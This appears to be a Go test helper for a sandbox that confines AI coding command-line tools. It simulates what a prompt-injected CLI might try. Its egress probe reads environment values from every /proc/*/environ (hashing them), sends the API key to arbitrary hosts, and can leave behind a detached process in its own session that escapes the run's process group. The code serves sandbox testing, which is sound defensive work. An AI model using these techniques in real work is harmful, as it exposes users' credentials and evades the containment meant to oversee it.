package main

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"syscall"
	"time"
)

// upstreamArg makes the binary a fake upstream instead of a CLI: an HTTP
// server on :8080 that records every request (method, host, path, headers)
// as a JSON line in upstreamLog, and answers 200 "ok". Tests run it as a
// container on a network they create, behind the kennel's way out.
const (
	upstreamArg = "serve-upstream"
	upstreamLog = "/tmp/requests.jsonl"
)

// UpstreamRequest is one line of upstreamLog.
type upstreamRequest struct {
	Method string      `json:"method"`
	Host   string      `json:"host"`
	Path   string      `json:"path"`
	Header http.Header `json:"header"`
}

func serveUpstream(stderr io.Writer) int {
	var mu sync.Mutex
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		line, _ := json.Marshal(upstreamRequest{Method: r.Method, Host: r.Host, Path: r.URL.RequestURI(), Header: r.Header})
		mu.Lock()
		f, err := os.OpenFile(upstreamLog, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
		if err == nil {
			f.Write(append(line, '\n'))
			f.Close()
		}
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"ok":true}`)
	})
	srv := &http.Server{Addr: ":8080", Handler: h, ReadHeaderTimeout: 10 * time.Second}
	if err := srv.ListenAndServe(); err != nil {
		fmt.Fprintln(stderr, "fakecli: upstream:", err)
		return 1
	}
	return 0
}

// probeTag is what the egress scenario reads from its prompt: the targets
// to try, as NAME=URL (through the proxy the environment names) or
// NAME=tcp://HOST:PORT (a direct connection).
var probeTag = regexp.MustCompile(`\[probe:([a-z-]+)=(\S+)\]`)

// egressProbe is the egress scenario: what a prompt-injected CLI would try.
// It reports, as text, the SHA-256 of every environment value it can read
// (its own and every /proc/*/environ), then each probe's outcome, then
// calls its model API at ANTHROPIC_BASE_URL with ANTHROPIC_API_KEY.
func egressProbe(inv invocation, em emitter) {
	em.start()
	var sums []string
	add := func(env []string) {
		for _, kv := range env {
			if _, v, ok := strings.Cut(kv, "="); ok && v != "" {
				sum := sha256.Sum256([]byte(v))
				sums = append(sums, hex.EncodeToString(sum[:8]))
			}
		}
	}
	add(os.Environ())
	procs, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, p := range procs {
		if b, err := os.ReadFile(p); err == nil {
			add(strings.Split(string(b), "\x00"))
		}
	}
	slices.Sort(sums)
	em.text("env-sha256: " + strings.Join(slices.Compact(sums), " "))
	client := &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{Proxy: http.ProxyFromEnvironment}}
	for _, m := range probeTag.FindAllStringSubmatch(inv.prompt, -1) {
		name, target := m[1], m[2]
		if addr, ok := strings.CutPrefix(target, "tcp://"); ok {
			c, err := net.DialTimeout("tcp", addr, 5*time.Second)
			if err != nil {
				em.text(fmt.Sprintf("probe %s: failed", name))
				continue
			}
			c.Close()
			em.text(fmt.Sprintf("probe %s: connected", name))
			continue
		}
		// With the key it has, as a CLI sending it to the wrong host would.
		req, _ := http.NewRequest(http.MethodGet, target, nil)
		req.Header.Set("x-api-key", os.Getenv("ANTHROPIC_API_KEY"))
		resp, err := client.Do(req)
		if err != nil {
			em.text(fmt.Sprintf("probe %s: failed", name))
			continue
		}
		resp.Body.Close()
		em.text(fmt.Sprintf("probe %s: %d", name, resp.StatusCode))
	}
	if base := os.Getenv("ANTHROPIC_BASE_URL"); base != "" {
		req, _ := http.NewRequest(http.MethodPost, strings.TrimSuffix(base, "/")+"/v1/messages", strings.NewReader(`{"model":"claude-sonnet-4-5"}`))
		req.Header.Set("x-api-key", os.Getenv("ANTHROPIC_API_KEY"))
		req.Header.Set("content-type", "application/json")
		resp, err := client.Do(req)
		if err != nil {
			em.text("probe api: failed")
		} else {
			resp.Body.Close()
			em.text(fmt.Sprintf("probe api: %d", resp.StatusCode))
		}
	}
	if strings.Contains(inv.prompt, "[probe-trace]") {
		em.text("trace: " + leftoverState())
	}
	if strings.Contains(inv.prompt, "[probe-leave]") {
		if err := leaveBehind(); err != nil {
			em.text("leave: failed: " + err.Error())
		} else {
			// The shell's child may not have become sleep yet.
			state := leftoverState()
			for i := 0; i < 40 && state != "alive"; i++ {
				time.Sleep(50 * time.Millisecond)
				state = leftoverState()
			}
			em.text("leave: " + state)
		}
	}
	em.finish("Probed the way out.")
}

// leftoverFile is where the egress scenario notes the process it leaves
// behind ([probe-leave]), for a later run to look for ([probe-trace]).
const leftoverFile = "/tmp/fetch-probe-leftover.pid"

// leaveBehind starts what a hostile CLI leaves running after its run: a
// shell in a session of its own with an empty environment, which
// backgrounds a sleep and exits, so that the sleep is orphaned and carries
// neither the run's process group nor its task tag.
func leaveBehind() error {
	cmd := exec.Command("/bin/sh", "-c", "sleep 1000 >/dev/null 2>&1 & echo $! > "+leftoverFile)
	cmd.Env = []string{}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	return cmd.Run()
}

// leftoverState says whether the process leaveBehind noted is alive.
func leftoverState() string {
	b, err := os.ReadFile(leftoverFile)
	if err != nil {
		return "none noted"
	}
	pid := strings.TrimSpace(string(b))
	cmdline, err := os.ReadFile("/proc/" + pid + "/cmdline")
	if err != nil || !strings.HasPrefix(string(cmdline), "sleep\x00") {
		return "gone"
	}
	return "alive"
}
